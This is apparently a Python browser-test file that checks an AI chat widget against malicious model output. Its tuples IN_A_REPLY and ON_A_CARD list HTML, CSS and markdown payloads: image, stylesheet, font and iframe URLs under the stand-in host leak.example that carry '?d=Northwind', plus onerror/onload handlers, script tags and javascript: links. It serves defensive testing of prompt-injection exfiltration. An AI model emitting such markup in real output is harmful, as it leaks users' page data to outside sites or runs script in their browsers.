"""Generated checks that the model's text never makes the page act or leak (table-level:
once per locale): in a reply and in a tool argument shown on a card, raw HTML and markdown
that would run script, carry an event handler or fetch from another site. How the page
renders the text is its own affair (safe markdown is fine; the literal-text rule is
model_output_checks.py's, where the driver declares `model_text: "text"`); what it may not do
is run what the model wrote, or send a request to an origin it never allowed: a reply under
prompt injection would carry what the page holds (`?d=Northwind`) to any site.

Every planted URL is absolute, under `PLANTED_DOMAIN` (RFC 2606: no real site), one host
per piece of text, so a failure names the URL fetched and the text that asked for it. Those
requests are answered at the network (`ForeignRequests`) and never leave the machine."""

from __future__ import annotations

import json
from dataclasses import dataclass

import pytest
from playwright.sync_api import Locator, Page, expect

from pling_harness.browser.foreign_requests import ForeignRequest, ForeignRequests, origin_of
from pling_harness.evidence import guarantees
from pling_harness.evidence.arguments import minimal_arguments, properties
from pling_harness.evidence.guarantees import GuaranteeViolation
from pling_harness.plugin.declared.context import DeclaredRun
from pling_harness.plugin.declared.stage import asking_string_argument
from pling_harness.plugin.report import not_applicable
from pling_harness.server.model.handle import calling, tool_call

GUARANTEE = "model-text-inert"
PLANTED_DOMAIN = "leak.example"
# What a handler of the model's text would set, were it run.
MARKER = "__plingModelText"
PLAIN_REPLY = {"role": "assistant", "content": "Done."}
# Frames the page gets, after its images and fonts have finished, for a late request
# (a background image or a prefetch the browser starts on a later frame).
QUIET_FRAMES = 10


@dataclass(frozen=True)
class Planted:
    """One piece of model text; `label` is the host it would fetch from, if any."""

    label: str
    text: str

    @property
    def host(self) -> str:
        return f"{self.label}.{PLANTED_DOMAIN}"


def _planted(label: str, template: str) -> Planted:
    return Planted(label, template.format(url=f"https://{label}.{PLANTED_DOMAIN}"))


# In a reply: raw HTML and markdown, each a paragraph of its own (a blank line ends an HTML
# block in markdown, so one renderer's reading of one piece cannot swallow the next).
IN_A_REPLY: tuple[Planted, ...] = (
    _planted("html-image", '<img src="{url}/q.png?d=Northwind" alt="">'),
    _planted("html-srcset", '<img srcset="{url}/q.png?d=Northwind 1x" alt="">'),
    _planted("html-picture", '<picture><source srcset="{url}/q.png?d=Northwind">'
                             '<img alt=""></picture>'),
    _planted("html-prefetch", '<link rel="prefetch" href="{url}/p?d=Northwind">'),
    _planted("html-stylesheet", '<link rel="stylesheet" href="{url}/s.css?d=Northwind">'),
    _planted("css-import", '<style>@import url("{url}/i.css?d=Northwind");</style>'),
    _planted("css-background", '<div style="background:url({url}/b.png?d=Northwind)">.</div>'),
    _planted("css-font", '<style>@font-face{{font-family:pling-leak;'
                         'src:url({url}/f.woff?d=Northwind)}}</style>'
                         '<span style="font-family:pling-leak">.</span>'),
    _planted("html-iframe", '<iframe src="{url}/f?d=Northwind"></iframe>'),
    _planted("html-video-poster", '<video poster="{url}/p.png?d=Northwind"></video>'),
    _planted("svg-image", '<svg><image href="{url}/i.png?d=Northwind" width="1" height="1"/>'
                          '</svg>'),
    _planted("markdown-image", "![x]({url}/q.png?d=Northwind)"),
    _planted("markdown-reference-image", "![y][leak]\n\n[leak]: {url}/q.png?d=Northwind"),
    Planted("html-onerror", f'<img src="data:," onerror="window.{MARKER}=\'img onerror\'">'),
    Planted("svg-onload", f'<svg onload="window.{MARKER}=\'svg onload\'"></svg>'),
    Planted("details-ontoggle", f'<details open ontoggle="window.{MARKER}=\'ontoggle\'">'
                                '<summary>s</summary></details>'),
    Planted("script", f"<script>window.{MARKER}='script'</script>"),
    Planted("markdown-javascript-link", f"[click](javascript:window.{MARKER}='link')"),
    Planted("html-javascript-link", f'<a href="javascript:window.{MARKER}=\'a\'">a</a>'),
)
REPLY_TEXT = "\n\n".join(piece.text for piece in IN_A_REPLY)

# In a string argument on a card: one line each, short (an argument may be capped at 80).
ON_A_CARD: tuple[Planted, ...] = (
    _planted("card-image", "<img src={url}/q.png?d=Northwind>"),
    _planted("card-markdown", "![x]({url}/q.png?d=Northwind)"),
    _planted("card-background", "<b style=background:url({url}/b.png)>.</b>"),
    Planted("card-onerror", f"<img src=data:, onerror=window.{MARKER}=1>"),
)

# Elements in `roots` (each and its descendants) with an event handler attribute, or a link
# that runs script when clicked.
ACTING_ELEMENTS = """(roots) => roots.flatMap((root) =>
  [root, ...root.querySelectorAll("*")].flatMap((element) => {
    const handlers = [...element.attributes].filter((a) => /^on/i.test(a.name));
    const script = element.matches("a, area")
      && /^\\s*javascript:/i.test(element.getAttribute("href") || "");
    return handlers.length || script ? [element.outerHTML.slice(0, 160)] : [];
  }))"""
# True once every image has finished (loaded or failed; a lazy one may wait for a scroll that
# never comes), the fonts have, and QUIET_FRAMES animation frames have passed since
# `arg.token` first asked.
QUIET = """(arg) => {
  const state = window.__plingQuiet?.token === arg.token
    ? window.__plingQuiet : (window.__plingQuiet = {token: arg.token, frames: 0});
  state.frames += 1;
  const images = [...document.querySelectorAll("img")]
    .every((image) => image.complete || image.loading === "lazy");
  return state.frames >= arg.frames && images && document.fonts.status === "loaded";
}"""


def _wait_quiet(page: Page, token: str) -> None:
    page.wait_for_function(QUIET, arg={"token": token, "frames": QUIET_FRAMES},
                           polling="raf")


def _expect_no_leak(run: DeclaredRun, recorder: ForeignRequests,
                    planted: tuple[Planted, ...], where: str) -> None:
    fetched = recorder.planted()
    if not fetched:
        return
    by_host = {piece.host: piece for piece in planted}

    def told(request: ForeignRequest) -> str:
        piece = by_host.get(request.host)
        source = f" for the model's text {piece.text!r}" if piece else ""
        return f"{request.url} ({request.resource_type}){source}"

    raise GuaranteeViolation(GUARANTEE, f"the model's text {where} made the page send "
                             f"{len(fetched)} request(s) to another site: "
                             f"{'; '.join(told(r) for r in fetched)}. A reply under prompt "
                             "injection can carry what the page shows to any site.",
                             run.timeline)


def _expect_nothing_acts(run: DeclaredRun, page: Page, elements: Locator, where: str) -> None:
    acting = elements.evaluate_all(ACTING_ELEMENTS)
    if acting:
        raise GuaranteeViolation(GUARANTEE, f"the model's text {where} became elements that "
                                 f"can run script (an event handler attribute or a "
                                 f"javascript: link): {acting}", run.timeline)
    ran = page.evaluate(f"() => window.{MARKER}")
    if ran is not None:
        raise GuaranteeViolation(GUARANTEE, f"script of the model's text {where} ran "
                                 f"({ran!r})", run.timeline)


def model_text_never_acts(run: DeclaredRun) -> None:
    """A reply of raw HTML and markdown that would fetch from another site or run script:
    whatever the page makes of it, no request reaches another site, no element of it carries
    a handler, no script of it runs, nothing of the business is asked."""
    page = run.open()
    recorder = ForeignRequests(page, page_origin=origin_of(page.url),
                               planted_domain=PLANTED_DOMAIN)
    run.model.script({"role": "assistant", "content": REPLY_TEXT})
    before = run.timeline.mark()
    run.dock.ask(run.say(run.row.asked_with))
    replies = run.dock.messages("assistant")
    expect(replies).to_have_count(1)
    _wait_quiet(page, "reply")
    _expect_no_leak(run, recorder, IN_A_REPLY, "in a reply")
    _expect_nothing_acts(run, page, replies, "in a reply")
    guarantees.no_business_request(run.timeline, since=before, guarantee=GUARANTEE)


def card_arguments_never_act(run: DeclaredRun) -> None:
    """Each piece of markup in a string argument of an action that asks, shown on its card:
    no request reaches another site, no element of it carries a handler, no script of it
    runs; denied, nothing changes."""
    page = run.open()
    staged = asking_string_argument(run)
    action, name, params = staged.action, staged.name, staged.params
    longest = properties(params)[name].get("maxLength")
    pieces = tuple(p for p in ON_A_CARD if longest is None or len(p.text) <= longest)
    if not pieces:
        pytest.skip(not_applicable("table", f"{action}'s {name} holds at most {longest} "
                                   "characters, too few for the markup"))
    recorder = ForeignRequests(page, page_origin=origin_of(page.url),
                               planted_domain=PLANTED_DOMAIN)
    before = run.timeline.mark()
    for n, piece in enumerate(pieces, start=1):
        arguments = {**minimal_arguments(params), name: piece.text}
        run.model.script(calling(tool_call(f"call_markup_{n}", action, json.dumps(arguments))),
                         PLAIN_REPLY)
        run.dock.ask(run.say(run.row.asked_with))
        expect(run.dock.approval).to_be_visible()
        _wait_quiet(page, piece.label)
        _expect_no_leak(run, recorder, pieces, "on a card")
        _expect_nothing_acts(run, page, run.dock.approval, "on a card")
        run.dock.deny()
    _expect_no_leak(run, recorder, pieces, "on a card")
    guarantees.no_business_request(run.timeline, since=before, guarantee=GUARANTEE)
    guarantees.state_unchanged(run.timeline, since=before, guarantee=GUARANTEE)
